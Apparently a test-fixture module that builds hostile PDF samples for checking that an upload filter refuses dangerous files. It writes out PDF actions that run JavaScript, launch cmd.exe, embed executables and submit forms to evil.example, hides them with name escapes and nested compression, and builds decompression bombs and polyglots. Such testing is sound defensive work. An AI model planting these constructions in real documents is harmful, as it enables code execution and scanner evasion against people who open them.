import { Buffer } from 'node:buffer';
import { deflateSync } from 'node:zlib';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { seeded, type HostileFile } from './hostile-file.ts';
import { FORMATS, pictureOf } from './hostile-images.ts';
import { EICAR, HTML, STOWAWAYS } from './payloads.ts';

/** Acts and stowaways that a catalogue can name; each is a dictionary entry. */
const HARM: Readonly<Record<string, string>> = {
  'open-javascript': '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
  'escaped-javascript': '/OpenAction << /S /J#61v#61Script /#4a#53 (app.alert(1)) >>',
  'named-javascript': '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>',
  'additional-actions': '/AA << /WC << /S /JavaScript /JS (app.alert(1)) >> >>',
  launch: '/OpenAction << /S /Launch /F (cmd.exe) >>',
  'launch-link': '/Dests << /a << /S /Launch /Win << /F (cmd.exe) >> >> >>',
  'embedded-files': '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /EF << /F 9 0 R >> >>] >> >>',
  'associated-file': '/AF [<< /Type /Filespec /EF << /F 9 0 R >> >>]',
  'submit-form': '/AcroForm << /Fields [<< /A << /S /SubmitForm /F (https://evil.example) >> >>] >>',
  xfa: '/AcroForm << /XFA [(template) 9 0 R] >>',
  'go-to-embedded': '/OpenAction << /S /GoToE /T << /R /C >> >>',
  'go-to-remote': '/Dests << /a << /S /GoToR /F (//evil.example/x) >> >>',
  'script-address': '/Dests << /a << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
  'rich-media': '/Dests << /a << /Subtype /RichMedia /RichMediaContent << >> >> >>',
  rendition: '/OpenAction << /S /Rendition /JS (app.alert(1)) >>',
  import: '/Dests << /a << /S /ImportData /F (x.fdf) >> >>',
};

/** Makes a small PDF whose catalogue has one more entry; that entry may lie in a compressed object stream. */
function pdfWith(entry: string, { hidden = false, streams = 1 } = {}): Buffer {
  const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>';
  if (!hidden) {
    const text = `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${entry} >>\nendobj\n2 0 obj\n${pages}\nendobj\n3 0 obj\n${page}\nendobj\n`;
    return Buffer.from(`${text}trailer\n<< /Root 1 0 R /Size 4 >>\nstartxref\n0\n%%EOF\n`, 'latin1');
  }
  const objects = [`<< /Type /Catalog /Pages 2 0 R ${entry} >>`, pages, page];
  let offset = 0;
  const index = objects.map((object, at) => {
    const line = `${at + 1} ${offset}`;
    offset += object.length + 1;
    return line;
  });
  const first = `${index.join(' ')} `;
  let body: Buffer = Buffer.from(`${first}${objects.join(' ')} `, 'latin1');
  for (let round = 0; round < streams; round += 1) body = deflateSync(body);
  const filter = streams === 1 ? '/FlateDecode' : `[${'/FlateDecode '.repeat(streams)}]`;
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n5 0 obj\n<< /Type /ObjStm /N 3 /First ${first.length} /Filter ${filter} /Length ${body.length} >>\nstream\n`,
    ),
    body,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 6 >>\nstartxref\n0\n%%EOF\n'),
  ]);
}

/** Documents that act, that carry others, and that hide either. */
export function actingDocuments(): HostileFile[] {
  const refused = Object.entries(HARM).flatMap(([what, entry]) => [
    { name: `${what}.pdf`, bytes: pdfWith(entry) },
    { name: `${what}-hidden.pdf`, bytes: pdfWith(entry, { hidden: true }) },
    { name: `${what}-hidden-twice.pdf`, bytes: pdfWith(entry, { hidden: true, streams: 2 }) },
    { name: `${what}-updated.pdf`, bytes: Buffer.concat([pdfWith(''), pdfWith(entry).subarray(9)]) },
  ]);
  return refused.map((file) => ({ ...file, must: 'be refused' }));
}

/** Documents that unfold, that are something else as well, that are locked or damaged, or tell too much. */
export async function oddDocuments(): Promise<HostileFile[]> {
  const plain = Buffer.from(await (await benignDocument()).save());
  const bomb = deflateSync(Buffer.alloc(60 * 1024 * 1024));
  const streamOf = (dictionary: string, body: Buffer): Buffer =>
    Buffer.concat([
      pdfWith('/Extra 9 0 R').subarray(0, -60),
      Buffer.from(`\n9 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\n`),
      body,
      Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R /Size 10 >>\nstartxref\n0\n%%EOF\n'),
    ]);
  const refused = [
    { name: 'bomb.pdf', bytes: streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb) },
    { name: 'bomb-twice.pdf', bytes: streamOf('/Filter [/FlateDecode /FlateDecode]', deflateSync(bomb)) },
    { name: 'eicar.pdf', bytes: streamOf('', EICAR) },
    { name: 'eicar-deflated.pdf', bytes: streamOf('/Filter /FlateDecode', deflateSync(EICAR)) },
    { name: 'zip-inside.pdf', bytes: streamOf('', STOWAWAYS['zip'] ?? HTML) },
    { name: 'html-inside.pdf', bytes: streamOf('', HTML) },
    {
      name: 'locked.pdf',
      bytes: Buffer.from(
        pdfWith('')
          .toString('latin1')
          .replace('/Size 4', '/Size 4 /Encrypt << /Filter /Standard /V 2 /R 3 /O (a) /U (b) /P -4 >>'),
        'latin1',
      ),
    },
    { name: 'deep.pdf', bytes: pdfWith(`/Dests ${'['.repeat(20_000)}${']'.repeat(20_000)}`) },
    { name: 'no-pages.pdf', bytes: Buffer.from('%PDF-1.7\n%%EOF\n') },
    ...Object.entries(STOWAWAYS).map(([what, bytes]) => ({
      name: `${what}-before.pdf`,
      bytes: Buffer.concat([bytes, plain]),
    })),
  ];
  const harmless = [
    ...Object.entries(STOWAWAYS)
      .filter(([what]) => what !== 'eicar')
      .map(([what, bytes]) => ({ name: `${what}-behind.pdf`, bytes: Buffer.concat([plain, bytes]) })),
    { name: 'author.pdf', bytes: plain },
    { name: 'opens-at-a-page.pdf', bytes: pdfWith('/OpenAction [3 0 R /Fit]') },
    ...damaged(plain),
  ];
  return [
    ...refused.map((file): HostileFile => ({
      ...file,
      must: file.name === 'pdf-before.pdf' ? 'be harmless' : 'be refused',
    })),
    ...harmless.map((file): HostileFile => ({ ...file, must: 'be harmless' })),
  ];
}

/** Makes an ordinary document with an author and a photo that tells where it was taken. */
export async function benignDocument(): Promise<PDFDocument> {
  const document = await PDFDocument.create({ updateMetadata: false });
  document.setAuthor('GEHEIM');
  document.setTitle('GEHEIM');
  const page = document.addPage([400, 400]);
  page.drawText('Registration certificate', { x: 20, y: 360, font: await document.embedFont(StandardFonts.Helvetica) });
  const photo = await pictureOf(FORMATS[0])
    .withExif({ IFD0: { Artist: 'GEHEIM' }, IFD3: { GPSLatitude: '37/1 33/1 0/1' } })
    .toBuffer();
  page.drawImage(await document.embedJpg(photo), { x: 20, y: 20, width: 200, height: 200 });
  return document;
}

function damaged(plain: Buffer) {
  const random = seeded(plain.length);
  return Array.from({ length: 24 }, (_, round) => {
    const bytes =
      round % 2 === 0 ? plain.subarray(0, Math.floor((plain.length * (round + 1)) / 26)) : Buffer.from(plain);
    if (round % 2 === 1)
      for (let count = 0; count < round; count += 1)
        bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256);
    return { name: `damaged-${round}.pdf`, bytes };
  });
}
